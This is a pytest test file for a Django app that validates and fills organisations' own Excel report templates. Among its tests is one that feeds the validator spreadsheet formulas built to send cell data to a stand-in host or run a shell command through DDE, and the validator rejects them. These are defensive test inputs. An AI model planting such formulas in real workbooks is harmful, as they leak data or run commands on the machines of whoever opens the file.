"""Forms that an organisation brings itself: what is taken, what is refused and why, and what is filled in."""

import datetime
import io
import zipfile

import pytest
from django.core.exceptions import PermissionDenied
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from core import periods
from core.errors import DomainError
from core.files import CheckedFile
from core.models import AuditEntry
from reports import actions
from reports.exports.own_form import check_form, fill_form
from reports.exports.own_form_example import example_form
from reports.figures import FIGURES
from reports.models import OwnForm
from reports.own_forms import catalogue, shipped
from tests import factories as make
from tests.factories_reports import NOON

pytestmark = pytest.mark.django_db
DAY = datetime.date(2026, 11, 20)
NOVEMBER = periods.month(DAY)


def bytes_of(book):
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def form_with(names, *, sheet_title="表1", **cells):
    """A form with these cells; `names`: name → what it refers to, a cell of the sheet where there is no "!"."""
    book = Workbook()
    sheet = book.active
    sheet.title = sheet_title
    for cell, value in cells.items():
        sheet[cell] = value
    for name, refers in names.items():
        where = refers if "!" in refers else f"'{sheet_title}'!{refers}"
        book.defined_names[name] = DefinedName(name, attr_text=where)
    return book


def mistakes(book):
    return dict(check_form(bytes_of(book)).mistakes)


def with_part(content, name, data=b"<x/>"):
    """The workbook with one more part in its archive."""
    file = io.BytesIO(content)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(name, data)
    return file.getvalue()


def upload(content, name="表样.xlsx"):
    return {"file": CheckedFile(name, "application/xlsx", content), "checked": check_form(content)}


def add(unit, by, content=None, name="季报"):
    return actions.add_form(unit=unit, name=name, **upload(content or example_form()), by=by, at=NOON)


def fill(form, by, *, unit=None, period=NOVEMBER, purpose="报送党办"):
    asked = {"unit": unit or form.unit, "period": period, "purpose": purpose}
    return load_workbook(actions.fill(form, **asked, by=by, at=NOON, on=DAY))


def test_every_figure_has_a_name_in_each_scope_and_no_name_means_two_things():
    names = catalogue.all_names()
    for texts in ({name.chinese for name in names}, {name.latin for name in names}):
        assert len(texts) == len(names)
    assert len(names) == len(shipped.FACTS) + len(shipped.COLUMNS) + len(shipped.SCOPES) * len(FIGURES)
    assert all(name.chinese.replace("_", "").isalnum() for name in names)


@pytest.mark.parametrize("text", ["年度_走访人次", "YEAR_visit_people", "year_Visit_People"])
def test_a_name_is_found_in_either_language_and_by_any_capitals(text):
    assert catalogue.find(text).latin == "year_visit_people"


def test_the_bare_code_of_a_figure_is_that_of_the_period():
    assert catalogue.find("visit_people").latin == "period_visit_people"


def test_the_example_passes_the_check_and_is_taken(secretary, town):
    form = add(town, secretary)
    assert form.versions.get().names[0] == ["unit_name", "示例", "B2"]
    assert AuditEntry.objects.get(action="reports.upload_form").unit_path == town.path


def test_all_mistakes_are_listed_at_once():
    book = form_with(
        {
            "年度_走仿人次": "$A$1",
            "单位": "$A$2:$B$2",
            "期间": "$A$3",
            "制表人": "$A$4",
            "made_by": "$A$4",
            "年份": "$C$5",
            "开始日期": "#REF!",
            "结束日期": "[1]别处!$A$1",
            "本期_走访人次": "$B$6",
        },
        A3="=1+1",
    )
    book.active.merge_cells("B6:C6")
    book.active.merge_cells("B5:C5")
    found = mistakes(book)
    assert "年度_走访人次" in found["年度_走仿人次"]
    assert "一个单元格" in found["单位"]
    assert "公式" in found["期间"]
    assert "已经有名称" in found["made_by"]
    assert "合并区域" in found["年份"]
    assert "一个单元格" in found["开始日期"]
    assert "一个单元格" in found["结束日期"]
    assert "本期_走访人次" not in found


def test_somebodys_own_name_stays_and_is_pointed_out():
    checked = check_form(bytes_of(form_with({"单位": "$A$1", "税率": "$B$1"})))
    assert not checked.mistakes
    assert [where for where, _what in checked.remarks] == ["税率"]


def test_a_form_without_any_name_is_refused():
    assert "没有找到" in mistakes(form_with({"税率": "$B$1"}))["整个文件"]


@pytest.mark.parametrize(
    ("part", "word"),
    [
        ("xl/vbaProject.bin", "宏"),
        ("xl/externalLinks/externalLink1.xml", "其他文件"),
        ("xl/connections.xml", "外部数据"),
        ("xl/drawings/drawing1.xml", "图片"),
        ("xl/pivotTables/pivotTable1.xml", "透视"),
        ("xl/embeddings/oleObject1.bin", "嵌入"),
    ],
)
def test_what_would_be_lost_or_do_harm_is_refused_by_name(part, word):
    (mistake,) = check_form(with_part(example_form(), part)).mistakes
    assert word in mistake[1]


@pytest.mark.parametrize(
    "formula", ['=WEBSERVICE("http://x/"&A1)', "=cmd|'/c calc'!A1", '=1+hyperlink ("http://x/"&A1)']
)
def test_a_formula_that_would_send_figures_elsewhere_is_refused(formula):
    assert "访问网络" in mistakes(form_with({"单位": "$A$1"}, B2=formula))["表1!B2"]
    assert not mistakes(form_with({"单位": "$A$1"}, B2='=IF(A1="a|b",1,SUM(C1:C2))', XFD1048576="=1"))


@pytest.mark.parametrize("cell", ["$A$0", "$A$1048577", "$XFE$1", "$A$99999999999", "$A$٣"])
def test_a_cell_that_no_sheet_has_is_a_mistake_and_not_a_crash(cell):
    assert "一个单元格" in mistakes(form_with({"单位": cell}))["单位"]


@pytest.mark.parametrize("place", [8, 10])
def test_an_archive_that_cannot_be_unpacked_is_refused(place):
    content = bytearray(example_form())
    content[content.rindex(b"[Content_Types].xml") - 46 + place] ^= 99
    with pytest.raises(DomainError, match="已损坏"):
        check_form(bytes(content))


def test_a_workbook_that_says_it_has_macros_is_refused():
    content = example_form()
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(file, "w") as new:
        for part in old.infolist():
            data = old.read(part)
            if part.filename == "[Content_Types].xml":
                data = data.replace(b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main")
            new.writestr(part.filename, data)
    assert "宏" in check_form(file.getvalue()).mistakes[0][1]


def test_one_that_is_too_large_is_refused_unread(monkeypatch):
    monkeypatch.setattr("reports.exports.own_form.MOST_UNPACKED", 10)
    assert "过大" in check_form(example_form()).mistakes[0][1]


def test_with_a_mistake_nothing_is_stored(secretary, town):
    with pytest.raises(DomainError, match="没有保存"):
        add(town, secretary, bytes_of(form_with({"年度_没有": "$A$1"})))
    assert not OwnForm.objects.exists()


def test_who_does_not_keep_the_unit_sets_up_nothing(town):
    with pytest.raises(PermissionDenied):
        add(town, make.make_user(role="leader", unit=town))


def test_a_new_version_is_filled_from_then_on_and_the_old_one_stays(secretary, town):
    form = add(town, secretary)
    actions.add_form_version(form, **upload(bytes_of(form_with({"单位": "$C$9"}))), by=secretary, at=NOON)
    assert [version.number for version in form.versions.all()] == [2, 1]
    assert fill(form, secretary)["表1"]["C9"].value == "柳溪镇"


def test_the_form_is_filled_from_the_records_and_all_else_stays_as_it_was(secretary, town):
    village = make.make_unit("石桥村", parent=town, kind="village")
    for unit, day in ((town, DAY), (village, DAY), (village, datetime.date(2026, 3, 8))):
        make.make_log(secretary.cadre, unit=unit, by=secretary, day=day)
    names = {
        "单位": "$A$1",
        "填报日期": "$A$2",
        "本期_走访人次": "$B$1",
        "年度_走访人次": "$B$2",
        "本级_走访人次": "$B$3",
    }
    names |= {"下级_单位": "$A$5", "下级_走访人次": "$B$5", "本期_办结率": "$B$4", "税率": "$C$1"}
    book = form_with(names, C1=0.13, C2="=B1*2", D1="勿动")
    book.active["D1"].font = Font(name="楷体", size=20)
    book.active["B1"].number_format = '0"人次"'
    sheet = fill(add(town, secretary, bytes_of(book)), secretary)["表1"]
    assert [sheet[cell].value for cell in ("A1", "B1", "B2", "B3", "B4")] == ["柳溪镇", 2, 3, 1, "—"]
    assert (sheet["A2"].value, sheet["A2"].number_format) == (datetime.datetime(2026, 11, 20), "yyyy-mm-dd")
    assert [sheet["A5"].value, sheet["B5"].value] == ["石桥村", 1]
    assert [sheet[cell].value for cell in ("C1", "C2", "D1")] == [0.13, "=B1*2", "勿动"]
    assert (sheet["D1"].font.name, sheet["B1"].number_format) == ("楷体", '0"人次"')


def test_a_name_that_looks_like_a_formula_is_text():
    content = bytes_of(form_with({"单位": "$A$1", "年份": "$A$2"}))
    places = check_form(content).places
    sheet = load_workbook(fill_form(content, places, {"unit_name": "=1+1", "year_number": 2026}))["表1"]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
    assert (sheet["A2"].value, sheet["A2"].number_format) == (2026, "General")
    fill_form(content, places, {"unit_name": "县\x01", "year_number": 2026}).close()


def test_a_table_that_begins_in_the_last_row_has_room_for_one():
    content = bytes_of(form_with({"下级_单位": "$A$1048576"}))
    with pytest.raises(DomainError, match="只留了1行"):
        fill_form(content, check_form(content).places, {"below_unit": ["甲村", "乙村"]})


def test_a_table_without_room_for_all_units_says_how_much_is_missing(secretary, town):
    for number in range(3):
        make.make_unit(f"村{number}", parent=town, kind="village")
    form = add(town, secretary, bytes_of(form_with({"下级_单位": "$A$1"}, A3="合计")))
    with pytest.raises(DomainError, match="只留了2行，而下级单位有3个"):
        fill(form, secretary)


def test_a_unit_below_uses_the_form_for_itself_and_another_does_not(secretary, town):
    village = make.make_unit("石桥村", parent=town, kind="village")
    form = add(town, secretary)
    clerk = make.make_user(role="secretary", unit=village)
    assert list(OwnForm.objects.visible_to(clerk)) == [form]
    assert fill(form, clerk, unit=village)["示例"]["B2"].value == "石桥村"
    with pytest.raises(PermissionDenied):
        fill(form, clerk)
    other = make.make_unit("河口镇")
    with pytest.raises(PermissionDenied):
        fill(form, make.make_user(role="system_admin", unit=other), unit=other)


def test_filling_is_written_down_with_its_purpose(secretary, town):
    fill(add(town, secretary), secretary)
    data = AuditEntry.objects.get(action="reports.fill_form").data
    assert data == {"version": 1, "period": "2026年11月", "purpose": "报送党办", "unit": "柳溪镇"}


@pytest.mark.parametrize(
    ("changes", "message"),
    [({"purpose": " "}, "请填写用途"), ({"period": periods.year(datetime.date(2027, 1, 1))}, "尚未开始")],
)
def test_without_a_purpose_or_for_the_future_nothing_is_filled(secretary, town, changes, message):
    with pytest.raises(DomainError, match=message):
        fill(add(town, secretary), secretary, **changes)


def test_a_name_that_the_product_no_longer_knows_is_said(secretary, town):
    form = add(town, secretary)
    form.versions.update(names=[["period_gone", "示例", "B2"]])
    with pytest.raises(DomainError, match="period_gone"):
        fill(form, secretary)


def test_a_form_that_is_out_of_use_takes_no_new_version_and_frees_its_name(secretary, town):
    form = add(town, secretary)
    with pytest.raises(DomainError, match="同名"):
        add(town, secretary)
    actions.end_form(form, by=secretary, at=NOON)
    with pytest.raises(DomainError, match="已经停用"):
        actions.add_form_version(form, **upload(example_form()), by=secretary, at=NOON)
    form.refresh_from_db()
    with pytest.raises(DomainError, match="已经停用"):
        fill(form, secretary)
    assert add(town, secretary) != form
